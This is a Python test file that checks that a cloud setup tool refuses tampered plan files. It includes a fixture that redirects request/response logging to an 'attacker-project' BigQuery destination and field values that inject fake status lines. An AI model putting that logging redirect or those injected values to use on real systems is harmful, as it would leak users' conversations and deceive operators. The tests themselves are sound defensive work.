"""Saved plans are checked strictly: the schema, each known step once, and every change equal to what the
current config and state produce, compared by step and (model, region) pair — never by position."""

from __future__ import annotations

import copy
import json
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

from conftest import PROJECT, Runner

from vertex_claude_setup.engine.planfile import _checksum

from .conftest import MODEL, REGIONS

EVIL = {"enabled": True, "samplingRate": 0.0001,
        "bigqueryDestination": {"outputUri": "bq://attacker-project.loot.request_response_logging"}}


def errors(result: Any) -> str:
    """stderr without plan/apply's first line, which names the project and where it came from."""
    err: str = result.err
    return err.split("\n", 1)[1] if err.startswith("Project ") else err


def _doc(path: Path) -> dict[str, Any]:
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc.pop("checksum")
    return dict(doc)


def _write(path: Path, doc: dict[str, Any]) -> Path:
    """Write ``doc`` with a recomputed checksum, as an attacker who read the code would."""
    body = {k: v for k, v in doc.items() if k != "checksum"}
    path.write_text(json.dumps({**body, "checksum": _checksum(body)}), encoding="utf-8")
    return path


def _step(doc: dict[str, Any], name: str) -> dict[str, Any]:
    return next(s for s in doc["steps"] if s["step"] == name)


def _pair_config(run: Runner, region: str) -> dict[str, Any]:
    state = json.loads(Path(".vertex-claude/emulator-state.json").read_text(encoding="utf-8"))
    config = state["projects"][PROJECT]["publisherModelConfigs"][f"{region}/{MODEL}"]["loggingConfig"]
    return dict(config)


def test_appended_duplicate_step_is_refused_and_nothing_is_sent(run: Runner, plan_path: Path, tmp_path: Path) -> None:
    doc = _doc(plan_path)
    evil = copy.deepcopy(_step(doc, "request-logging"))
    for change in evil["changes"]:
        change["data"]["loggingConfig"] = EVIL
    doc["steps"].append(evil)
    evil_path = _write(tmp_path / "evil.json", doc)
    shown = run("show", str(evil_path))
    assert (shown.code, shown.out) == (1, "")
    assert shown.err == (f"Error: plan file {evil_path}: step 'request-logging' appears twice\n"
                         "  fix: never edit a plan; make a new one with `plan --out FILE`\n")
    applied = run("--emulator", "apply", str(evil_path))
    assert (applied.code, errors(applied)) == (1, shown.err)
    for region in REGIONS:
        assert _pair_config(run, region)["enabled"] is False  # nothing was applied


def test_a_change_that_does_not_follow_from_the_state_is_refused_by_pair(run: Runner, plan_path: Path,
                                                                        tmp_path: Path) -> None:
    doc = _doc(plan_path)
    # Keep the summary and the displayed before/after; only the payload apply sends is swapped.
    _step(doc, "request-logging")["changes"][1]["data"]["loggingConfig"] = EVIL
    evil_path = _write(tmp_path / "evil.json", doc)
    result = run("--emulator", "apply", str(evil_path))
    assert result.code == 1
    assert errors(result) == (f"Error: plan {evil_path}: the change of step request-logging for {MODEL} in "
                          f"{REGIONS[1]} does not follow from the current state and configuration "
                          "(the plan was altered)\n"
                          "  fix: make a new plan with `plan --out FILE`\n")
    assert _pair_config(run, REGIONS[1])["enabled"] is False


def test_changes_are_matched_by_pair_not_by_position(run: Runner, plan_path: Path, tmp_path: Path) -> None:
    doc = _doc(plan_path)
    changes = _step(doc, "request-logging")["changes"]
    assert len(changes) == 2
    changes.reverse()  # the same changes in another order are the same plan
    result = run("--emulator", "apply", str(_write(tmp_path / "reordered.json", doc)))
    assert result.code == 0, result.err
    assert result.out.endswith("Apply complete! 2 applied.\n")
    assert all(_pair_config(run, region)["enabled"] is True for region in REGIONS)


def test_a_dropped_or_extra_change_is_refused(run: Runner, plan_path: Path, tmp_path: Path) -> None:
    doc = _doc(plan_path)
    dropped = copy.deepcopy(doc)
    _step(dropped, "request-logging")["changes"].pop(0)
    dropped["summary"]["update"] -= 1
    result = run("--emulator", "apply", str(_write(tmp_path / "dropped.json", dropped)))
    assert result.code == 1
    assert errors(result).startswith(f"Error: plan {tmp_path / 'dropped.json'}: the change of step request-logging for "
                                 f"{MODEL} in {REGIONS[0]} does not follow from the current state")
    twice = copy.deepcopy(doc)
    step = _step(twice, "request-logging")
    step["changes"].append(copy.deepcopy(step["changes"][0]))
    twice["summary"]["update"] += 1
    result = run("--emulator", "apply", str(_write(tmp_path / "twice.json", twice)))
    assert result.code == 1
    assert errors(result).startswith(f"Error: plan file {tmp_path / 'twice.json'}: step request-logging changes "
                                 f"{MODEL} in {REGIONS[0]} twice")


def test_show_displays_everything_apply_would_send(run: Runner, plan_path: Path) -> None:
    shown = run("show", str(plan_path))
    assert shown.code == 0
    sent = [line.strip() for line in shown.out.splitlines() if line.strip().startswith("apply uses: ")]
    assert len(sent) == 2
    payload = json.loads(sent[0].removeprefix("apply uses: "))
    assert payload["loggingConfig"]["bigqueryDestination"]["outputUri"] == (
        f"bq://{PROJECT}.claude_logs.request_response_logging")
    assert payload["loggingConfig"]["samplingRate"] == 1.0


MALFORMED: list[tuple[Callable[[dict[str, Any]], Any], str]] = [
    (lambda d: d.pop("project"), "missing key 'project'"),
    (lambda d: d.pop("config_digest"), "missing key 'config_digest'"),
    (lambda d: d.pop("steps"), "missing key 'steps'"),
    (lambda d: d.update(extra=1), "unknown key 'extra'"),
    (lambda d: d.update(project=7), "key 'project' must be a string, got 7"),
    (lambda d: d.update(steps={}), "key 'steps' must be a list, got {}"),
    (lambda d: d["steps"][0].pop("fingerprint"), "steps[0]: missing key 'fingerprint'"),
    (lambda d: d["steps"][0].update(step="firewall"), "steps[0]: unknown step 'firewall'"),
    (lambda d: d["steps"][0].update(after_upstream="yes"),
     "steps[0]: key 'after_upstream' must be true or false, got 'yes'"),
    (lambda d: _step(d, "request-logging")["changes"][0].pop("data"),
     "steps[5].changes[0]: missing key 'data'"),
    (lambda d: _step(d, "request-logging")["changes"][0].update(action="replace"),
     "steps[5].changes[0]: key 'action' must be one of create, update, delete, got 'replace'"),
    (lambda d: _step(d, "request-logging")["changes"][0].update(step="api"),
     "steps[5].changes[0]: key 'step' must be 'request-logging' (the step it is listed under), got 'api'"),
    (lambda d: _step(d, "request-logging")["changes"][0].update(data=[]),
     "steps[5].changes[0]: key 'data' must be an object, got []"),
    (lambda d: _step(d, "availability")["findings"][0].update(severity="fatal"),
     "steps[3].findings[0]: key 'severity' must be one of error, warning, info, got 'fatal'"),
    (lambda d: d["summary"].update(update=9), "the summary does not match its changes"),
    (lambda d: d.update(project=f"{PROJECT}\nError: fine"),
     f"key 'project' must be a project ID, got '{PROJECT}\\nError: fine'"),
]


def test_malformed_plan_files_are_one_line_errors(run: Runner, plan_path: Path, tmp_path: Path) -> None:
    """Each case on its own copy of one real plan (made once: it costs an apply and a plan)."""
    for mutate, problem in MALFORMED:
        doc = _doc(plan_path)
        mutate(doc)
        bad = _write(tmp_path / "bad.json", doc)
        for args in (("show", str(bad)), ("--emulator", "apply", str(bad))):
            result = run(*args)
            assert (result.code, result.out) == (1, ""), (problem, args)
            assert errors(result) == (f"Error: plan file {bad}: {problem}\n"
                                  "  fix: never edit a plan; make a new one with `plan --out FILE`\n"), args


def test_plan_file_is_private(run: Runner, plan_path: Path) -> None:
    assert stat.S_IMODE(plan_path.stat().st_mode) == 0o600


def test_values_from_a_plan_never_break_the_error_line(run: Runner, plan_path: Path, tmp_path: Path) -> None:
    doc = _doc(plan_path)
    for change in _step(doc, "request-logging")["changes"]:
        change["data"]["region"] = "us-east5\nApply complete!"
    evil = _write(tmp_path / "evil.json", doc)
    for args in (("show", str(evil)), ("--emulator", "apply", str(evil))):
        result = run(*args)
        assert (result.code, result.out) == (1, "")
        assert errors(result) == (f"Error: plan file {evil}: step request-logging changes '{MODEL} in us-east5\\nApply "
                              "complete!' twice\n  fix: never edit a plan; make a new one with `plan --out FILE`\n")
